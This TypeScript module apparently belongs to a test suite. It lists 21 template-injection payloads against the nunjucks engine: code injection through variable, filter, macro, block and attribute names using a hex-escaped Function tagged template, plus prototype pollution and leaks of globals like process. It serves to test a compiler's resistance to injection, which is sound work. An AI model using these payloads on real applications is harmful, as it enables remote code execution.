import { type Attack, attack, PAYLOAD } from './attack.js'

const hex = (character: string) => `\\x${character.charCodeAt(0).toString(16)}`
/** Code as a tagged template literal, without a character that ends a name in nunjucks. */
const tagged = `Function\`${PAYLOAD.replace(/[.()= ]/g, hex)}\`\`\``
/** Breaks out of the string literal that a compiler would write the name into. */
const name = `a"^${tagged}^"b`

/** 16 code injections through names, and 5 pollutions and leaks (reliability, appendix C). */
export const attacksOnNames: Attack[] = [
  attack('name printed', `{{ ${name} }}`),
  attack('name printed, arithmetic', `{{ a"^\`\${+1}\`^"b }}`),
  attack('name in if', `{% if ${name} %}x{% endif %}`),
  attack('name walked through', `{% for x in ${name} %}{% endfor %}`),
  attack('name set', `{% set ${name} = 1 %}`),
  attack('name of a loop', `{% for ${name} in [1] %}{% endfor %}`),
  attack('name of a filter', `{{ 1|x"^${tagged}^"y }}`),
  attack('name of a test', `{{ 1 is x"^${tagged}^"y }}`),
  attack('name of a macro', `{% macro x"^${tagged}^"y() %}{% endmacro %}`),
  attack('name of a block', `{% block x;${tagged};function$y %}{% endblock %}`),
  attack('key of a dict', `{{ {${name}: 1} }}`),
  attack('name of an argument', `{{ 1|default(${name}=1) }}`),
  attack('name called', `{{ x["\\\\"^${tagged}^"]() }}`),
  attack('line separator in a name', '{{ a\u2028b }}'),
  attack('name of an import', `{% import "x" as ${name} %}`),
  attack('name of an attribute', `{{ x.${name} }}`, { x: {} }),
  attack('set __proto__', '{% set __proto__ = 1 %}{{ __proto__ }}'),
  attack('loop over __proto__', '{% for __proto__ in [{"polluted":1}] %}{{ polluted }}{% endfor %}'),
  attack('set constructor', '{% set constructor = 1 %}{{ constructor }}'),
  attack(
    'globals by name',
    '{{ env }}{{ context }}{{ frame }}{{ runtime }}{{ process }}{{ global }}{{ this }}',
  ),
  attack('functions printed', '{{ range|tojson }}{{ cycler }}'),
]
